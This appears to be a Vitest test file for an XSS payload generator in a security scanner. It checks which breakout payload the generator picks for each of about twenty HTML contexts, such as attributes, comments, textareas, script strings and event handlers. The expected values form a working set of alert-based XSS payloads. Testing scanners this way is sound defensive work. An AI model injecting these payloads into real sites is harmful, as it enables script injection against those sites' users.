import { expect, it } from 'vitest';
import { fitPayload } from '../../../src/engine/verification/payloads.ts';
import { candidate } from '../support/candidate.ts';

const image = '<img src=x onerror=alert(document.domain)>';

function inputFor(before: string): string | undefined {
  const shape = [{ fixed: before }, { hole: 'tainted' } as const];
  return fitPayload(candidate({ shape }), 'xss')?.value;
}

it.each([
  ['text', '<p>', image],
  ['text behind a script', '<script src="a.js"></script><p>', image],
  ['text behind a comment that holds a tag', '<!--[if lt IE 9]><script src="a.js"><![endif]--><p>', image],
  ['text behind an attribute that holds a sign of a tag', '<a title="a > b < c">', image],
  ['a comment', '<!-- made for ', `-->${image}`],
  ['a style', '<style>b { color: ', `</style>${image}`],
  ['a title', '<title>Results for ', `</title>${image}`],
  ['a text area', '<textarea name=x>', `</textarea>${image}`],
  ['an attribute', '<input value="', `">${image}`],
  ['an attribute behind others', `<input type='text' name=a value="x `, `">${image}`],
  ['an attribute in single quotes', "<option value='", `'>${image}`],
  ['an attribute without quotes', '<b title=', 'x onmouseover=alert(document.domain) '],
  ['a tag', '<b ', ' autofocus onfocus=alert(document.domain) '],
  ['the address of a link', '<a class="x" href="', 'javascript:alert(document.domain)'],
  ['the end of the address of a link', '<a href="/users/', `">${image}`],
  ['the address of an image, which runs nothing', '<img src="', `">${image}`],
  ['a script', '<script>var n = ', 'alert(document.domain)'],
  ['a text of a script', '<script>show("', '"-alert(document.domain)-"'],
  ['a template of a script', '<script>show(`', '${alert(document.domain)}'],
  ['a script in an attribute', '<b onclick="show(', 'alert(document.domain)'],
  ['a text of a script in an attribute', `<b onclick="show('`, "'-alert(document.domain)-'"],
])('leaves %s', (_, before, value) => {
  expect(inputFor(before)).toBe(value);
});

it('takes no longer for a page made to take long', () => {
  expect(inputFor('<!--'.repeat(5_000))).toBe(`-->${image}`);
  expect(inputFor('<a x="'.repeat(5_000))).toBeDefined();
});
